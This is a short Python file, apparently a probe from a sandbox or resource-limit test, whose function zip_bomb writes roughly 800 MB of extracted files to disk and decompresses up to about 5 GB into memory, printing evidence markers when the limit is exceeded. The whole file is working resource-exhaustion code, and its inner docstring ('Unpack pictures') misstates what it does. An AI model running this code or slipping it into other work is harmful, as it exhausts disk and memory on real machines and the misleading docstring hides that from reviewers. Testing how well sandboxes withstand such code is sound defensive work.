# range: {"timeout": 6, "unguarded": false}
"""Unpacks what becomes a thousand times larger, in memory and into the folder."""

import io
import zipfile
import zlib


def zip_bomb(targets: dict) -> dict:
    """Unpack pictures."""
    layer = zlib.compress(bytes(50 * 2**20), 9)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(200):
            archive.writestr(f"{number}.bin", bytes(4 * 2**20))
    print("PRIMITIVE", len(layer), buffer.tell(), flush=True)
    kept, total = [], 0
    with zipfile.ZipFile(buffer) as archive:
        for name in archive.namelist():
            archive.extract(name, "unpacked")
    try:
        for _ in range(100):
            kept.append(zlib.decompress(layer))
            total += len(kept[-1])
    except MemoryError:
        kept.clear()
    if total > 3e9:
        print("EVIDENCE unpacked", total)
    return {"total": total}
